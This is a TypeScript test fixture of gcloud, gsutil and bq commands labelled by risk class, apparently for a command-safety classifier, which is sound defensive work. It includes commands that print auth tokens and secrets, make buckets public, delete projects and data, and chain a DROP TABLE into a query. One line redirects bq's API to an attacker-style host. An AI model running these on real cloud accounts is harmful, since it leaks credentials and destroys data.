import type { Labelled } from "../labelled.fixture.ts"

/** gcloud, gsutil and bq as runbooks write them, and the class that a reviewer gave each before the classifier was run on it. */
export const labelledGcloud: Labelled = {
  read: `
gcloud
gcloud --version
gcloud version
gcloud info
gcloud help compute
gcloud topic filters
gcloud auth list
gcloud config list
gcloud config get-value project
gcloud config get project
gcloud config configurations list
gcloud components list
gcloud projects list
gcloud projects describe my-project
gcloud projects get-iam-policy my-project
gcloud compute instances list
gcloud compute instances list --project my-project --filter=status=RUNNING --format=json
gcloud --project my-project compute instances list
gcloud compute --project my-project instances list
gcloud compute instances describe vm-1 --zone europe-west1-b
gcloud compute instances get-serial-port-output vm-1 --zone z
gcloud compute instances tail-serial-port-output vm-1
gcloud compute instance-groups managed list
gcloud compute instance-groups managed describe ig --region r
gcloud compute instance-groups managed list-instances ig --zone z
gcloud compute instance-groups managed list-errors ig
gcloud compute instance-groups managed wait-until ig --stable --zone z
gcloud compute disks list
gcloud compute snapshots describe s
gcloud compute firewall-rules list --format=table(name)
gcloud compute networks subnets list
gcloud compute backend-services get-health web --global
gcloud compute forwarding-rules list
gcloud compute addresses list
gcloud compute routers get-status r --region r
gcloud compute ssl-certificates list
gcloud compute operations list --filter=status!=DONE
gcloud compute zones list
gcloud compute images packages diff --base-image a --diff-image b
gcloud container clusters list
gcloud container clusters describe prod --region r
gcloud container node-pools list --cluster prod
gcloud container node-pools describe np --cluster prod
gcloud container operations list
gcloud container operations wait op-1
gcloud container get-server-config --region r
gcloud container images list-tags gcr.io/p/app
gcloud container fleet memberships list
gcloud artifacts docker images list r-docker.pkg.dev/p/repo
gcloud artifacts repositories list
gcloud run services list
gcloud run services describe web --region r
gcloud run revisions list --service web
gcloud beta run services logs read web --limit 50
gcloud alpha run services logs tail web
gcloud run jobs executions list
gcloud functions list
gcloud functions logs read f --limit 20
gcloud app versions list
gcloud app logs tail -s default
gcloud logging read severity>=ERROR --limit 10 --freshness 1h
gcloud logging logs list
gcloud logging sinks list
gcloud logging tail resource.type=k8s_container
gcloud monitoring dashboards list
gcloud alpha monitoring policies list
gcloud sql instances list
gcloud sql instances describe db
gcloud sql operations list --instance db
gcloud sql backups list --instance db
gcloud sql databases list --instance db
gcloud redis instances describe cache --region r
gcloud spanner instances list
gcloud pubsub topics list
gcloud pubsub subscriptions describe sub
gcloud pubsub topics list-subscriptions t
gcloud iam service-accounts list
gcloud iam service-accounts keys list --iam-account sa
gcloud iam roles describe roles/viewer
gcloud secrets list
gcloud secrets versions list db
gcloud kms keys list --keyring k --location l
gcloud dns managed-zones list
gcloud dns record-sets list --zone z
gcloud builds list --limit 5
gcloud builds describe b
gcloud builds log b
gcloud deploy releases list --delivery-pipeline p --region r
gcloud services list --enabled
gcloud storage ls gs://b
gcloud storage buckets describe gs://b
gcloud storage du -s gs://b
gcloud storage rsync a gs://b --dry-run
gcloud asset search-all-resources --scope projects/p
gcloud asset analyze-iam-policy --organization 1
gcloud workflows executions describe e
gcloud scheduler jobs list
gcloud tasks queues describe q
gcloud dataproc clusters list --region r
gcloud dataflow jobs list
gcloud composer environments describe e --location l
gcloud filestore instances list
gcloud memcache instances list
gcloud organizations list
gcloud access-context-manager policies list
gcloud network-management connectivity-tests list
gcloud recommender recommendations list --recommender r --location l
gcloud compute project-info describe
gcloud compute regions describe r
gcloud compute url-maps validate --source f
gsutil ls
gsutil ls -l gs://b/p
gsutil du -sh gs://b
gsutil stat gs://b/o
gsutil hash f
gsutil version -l
gsutil iam get gs://b
gsutil acl get gs://b
gsutil lifecycle get gs://b
gsutil versioning get gs://b
gsutil -m ls gs://b
gsutil rsync -n -r a gs://b
bq ls
bq ls --project_id p
bq show p:d.t
bq show --schema --format=prettyjson p:d.t
bq --location=EU ls
bq help
bq version
`,
  "sensitive-read": `
gcloud auth print-access-token
gcloud auth print-identity-token
gcloud auth application-default print-access-token
gcloud secrets versions access latest --secret db
gcloud kms decrypt --key k --keyring r --location l --ciphertext-file f --plaintext-file -
gcloud storage cat gs://b/o
gcloud storage cp gs://b/o -
gcloud storage sign-url gs://b/o
gcloud redis instances get-auth-string cache --region r
gcloud services api-keys get-key-string k
gcloud compute instances list --account other@example.com
gcloud --configuration prod container clusters list
gsutil cat gs://b/o
gsutil cp gs://b/o -
gsutil signurl k gs://b/o
bq head -n 10 p:d.t
bq query --use_legacy_sql=false SELECT·1
bq query --nouse_legacy_sql with·a·as·(select·1)·select·*·from·a
`,
  low: "",
  high: `
gcloud compute instances start vm-1 --zone z
gcloud compute instances stop vm-1 --zone z
gcloud compute instances create vm-2
gcloud compute instances add-labels vm-1 --labels a=b
gcloud compute instances set-machine-type vm-1 --machine-type e2-small
gcloud compute instance-groups managed resize ig --size 3 --zone z
gcloud compute instance-groups managed rolling-action restart ig --zone z
gcloud compute instance-groups managed recreate-instances ig --instances i
gcloud compute disks resize d --size 200
gcloud compute disks snapshot d
gcloud container clusters resize prod --num-nodes 4
gcloud container clusters upgrade prod
gcloud container clusters update prod --enable-autoscaling
gcloud container node-pools create np --cluster prod
gcloud container node-pools update np --cluster prod
gcloud run deploy web --image i
gcloud run services update web --memory 1Gi
gcloud run services update-traffic web --to-revisions r=100
gcloud functions deploy f
gcloud app deploy
gcloud app services set-traffic default --splits v1=1
gcloud sql instances restart db
gcloud sql instances patch db --tier t
gcloud sql backups create --instance db
gcloud sql export sql db gs://b/x.sql
gcloud pubsub topics create t
gcloud pubsub topics publish t --message m
gcloud dns record-sets update r --zone z
gcloud dns record-sets create r --zone z
gcloud secrets create db
gcloud secrets versions add db --data-file f
gcloud services enable x
gcloud storage cp f gs://b
gcloud storage rsync a gs://b
gcloud storage buckets create gs://b
gcloud scheduler jobs pause j
gcloud deploy releases promote --release r
gcloud logging write l m
gcloud compute instances get-screenshot vm-1 --destination f
gsutil cp f gs://b
gsutil -m cp -r d gs://b
gsutil rsync -r a gs://b
gsutil mb gs://b
gsutil lifecycle set f gs://b
bq load d.t f
bq mk d
bq cp a b
bq extract d.t gs://b/f
`,
  destructive: `
gcloud compute instances delete vm-1 --zone z --quiet
gcloud compute instances reset vm-1 --zone z
gcloud compute instances delete list
gcloud compute ssh vm-1 --zone z --command uptime
gcloud compute scp vm-1:/tmp/x .
gcloud compute start-iap-tunnel vm-1 22
gcloud compute firewall-rules create f --allow tcp:22
gcloud compute firewall-rules update f --disabled
gcloud compute reset-windows-password vm-1
gcloud container clusters delete prod
gcloud container node-pools delete np --cluster prod
gcloud container images delete gcr.io/p/app:1
gcloud run services delete web
gcloud run jobs execute j
gcloud functions call f
gcloud functions delete f
gcloud app versions delete v1
gcloud sql instances delete db
gcloud sql instances failover db
gcloud sql connect db
gcloud sql backups restore 1 --restore-instance db
gcloud pubsub topics delete t
gcloud pubsub subscriptions seek sub --time t
gcloud pubsub subscriptions pull sub --auto-ack
gcloud projects delete p
gcloud projects add-iam-policy-binding p --member m --role r
gcloud projects set-iam-policy p f
gcloud iam service-accounts create sa
gcloud iam service-accounts keys create k.json --iam-account sa
gcloud iam service-accounts add-iam-policy-binding sa --member m --role r
gcloud secrets delete db
gcloud secrets versions destroy 1 --secret db
gcloud kms keys versions destroy 1 --key k
gcloud dns record-sets delete r --zone z
gcloud services disable x
gcloud builds submit .
gcloud builds triggers run t
gcloud storage rm -r gs://b
gcloud storage mv gs://a/x gs://b/x
gcloud storage rsync a gs://b --delete-unmatched-destination-objects
gcloud storage buckets delete gs://b
gcloud workflows run w
gcloud dataproc jobs submit spark --cluster c
gcloud scheduler jobs run j
gcloud tasks queues purge q
gcloud frobnicate list
gcloud compute frobnicate describe x
gcloud compute instances list --flags-file f.yaml
gcloud asset analyze-iam-policy-longrunning --organization 1
gsutil rm -r gs://b
gsutil mv a b
gsutil rb gs://b
gsutil rsync -d -r a gs://b
gsutil iam ch allUsers:objectViewer gs://b
gsutil acl ch -u AllUsers:R gs://b/o
bq rm -f -t d.t
bq query DELETE·FROM·d.t·WHERE·true
bq query --use_legacy_sql=false UPDATE·d.t·SET·a=1·WHERE·true
bq query --destination_table d.t SELECT·1
bq query SELECT·1;DROP·TABLE·d.t
bq frobnicate
`,
  forbidden: `
gcloud init
gcloud auth login
gcloud auth activate-service-account --key-file k.json
gcloud auth configure-docker
gcloud auth application-default login
gcloud auth revoke
gcloud config set project other
gcloud config configurations activate prod
gcloud components update
gcloud components install kubectl
gcloud container clusters get-credentials prod --region r
gcloud beta container clusters get-credentials prod
gcloud container fleet memberships get-credentials m
gcloud compute instances list --impersonate-service-account sa
gcloud compute instances list --access-token-file f
gcloud compute instances delete vm-1 --account other@example.com
gsutil config
gsutil update
gsutil -o Credentials:x=y ls
bq init
bq --credential_file=f ls
bq --api https://evil.example ls
`
}
